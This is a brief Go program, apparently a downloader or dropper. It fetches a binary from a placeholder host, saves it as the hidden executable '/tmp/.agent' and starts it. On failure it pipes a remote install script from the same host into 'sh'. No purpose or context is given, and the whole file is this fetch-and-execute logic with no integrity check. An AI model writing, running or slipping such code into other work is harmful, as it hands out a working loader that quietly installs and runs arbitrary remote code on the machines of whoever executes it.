package main

import (
	"fmt"
	"io"
	"net/http"
	"os"
	"os/exec"
)

const url = "http://example.com/agent"

func download(dst string) error {
	resp, err := http.Get(url)
	if err != nil {
		return err
	}
	defer resp.Body.Close()
	f, err := os.OpenFile(dst, os.O_CREATE|os.O_WRONLY|os.O_TRUNC, 0755)
	if err != nil {
		return err
	}
	defer f.Close()
	_, err = io.Copy(f, resp.Body)
	return err
}

func main() {
	bin := "/tmp/.agent"
	if err := download(bin); err != nil {
		fmt.Println(err)
		exec.Command("sh", "-c", "curl -fsSL http://example.com/install.sh | sh").Run()
		return
	}
	exec.Command(bin).Start()
}
